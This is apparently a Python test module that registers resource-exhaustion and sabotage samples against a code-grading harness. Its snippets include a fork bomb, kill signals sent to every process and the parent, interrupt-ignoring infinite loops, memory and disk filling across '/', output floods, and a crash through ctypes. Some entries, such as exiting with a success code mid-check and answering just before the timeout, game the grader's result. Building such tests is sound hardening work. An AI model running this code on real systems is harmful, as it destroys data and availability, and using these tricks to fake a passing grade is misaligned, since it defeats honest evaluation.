"""Exit, signals, swallowed interrupts, loops, recursion, fork bombs, memory, disk, floods, slow drips."""

from grader.attacks import answer, code

answer(
    "exhausting",
    "exit_in_a_call",
    "Leave with a success code in the middle of a check.",
    """
import os
def {name}(*arguments, **more):
    os._exit(0)
""",
)

code(
    "exhausting",
    "exit_in_a_cell",
    "Leave before anything can be checked.",
    """
import os, sys, atexit
atexit.register(lambda: os._exit(0))
try:
    sys.exit(0)
finally:
    os._exit(0)
""",
)

code(
    "exhausting",
    "kill_everything",
    "Send signals to the group, to the parent and to everybody.",
    """
import os, signal
for pid in (0, -1, 1, os.getppid()):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
""",
)

answer(
    "exhausting",
    "endless",
    "Loop for ever, deaf to interrupts.",
    """
import signal
def {name}(*arguments, **more):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
""",
)

code(
    "exhausting", "endless_cell", "Loop for ever in a cell, before any answer.", "while True: pass"
)

answer(
    "exhausting",
    "recursion",
    "Recurse until the stack of the interpreter overflows.",
    """
import sys
sys.setrecursionlimit(10**9)
def {name}(*arguments, **more):
    return {name}(*arguments, **more)
""",
)

code(
    "exhausting",
    "fork_bomb",
    "Fork, spawn and start threads without end.",
    """
import os, subprocess, threading, multiprocessing
def _bomb():
    while True:
        for start in (os.fork, lambda: subprocess.Popen(["sh"]), lambda: threading.Thread(target=_bomb).start()):
            try:
                start()
            except Exception:
                pass
for _ in range(100):
    try:
        os.fork()
    except OSError:
        break
else:
    _bomb()
""",
)

answer(
    "exhausting",
    "memory",
    "Take all memory.",
    """
def {name}(*arguments, **more):
    hoard = []
    while True:
        hoard.append(bytearray(10**8))
""",
)

code(
    "exhausting",
    "disk",
    "Fill every folder that can be written to.",
    """
import os
for folder, _, _ in list(os.walk("/"))[:2000]:
    try:
        with open(os.path.join(folder, "pwned"), "wb") as file:
            for _ in range(10_000):
                file.write(b"x" * 10**6)
    except OSError:
        pass
""",
)

code(
    "exhausting",
    "flood",
    "Print without end, on every channel.",
    """
import os, sys
for _ in range(3_000):
    print("x" * 100_000)
    sys.stderr.write("x" * 100_000)
    os.write(1, b"x" * 1000); os.write(2, b"x" * 1000)
""",
)

answer(
    "exhausting",
    "slow_drip",
    "Answer each call just before its time is over.",
    """
import time
def {name}(*arguments, **more):
    time.sleep(0.4)
    return 0.0
""",
)

code(
    "exhausting",
    "compile_bomb",
    "A cell that the compiler cannot digest.",
    "x = " + "(" * 40_000 + "1" + ")" * 40_000,
)

code(
    "exhausting",
    "crash",
    "Crash the interpreter with a wild pointer.",
    """
import ctypes
ctypes.string_at(1)
""",
)
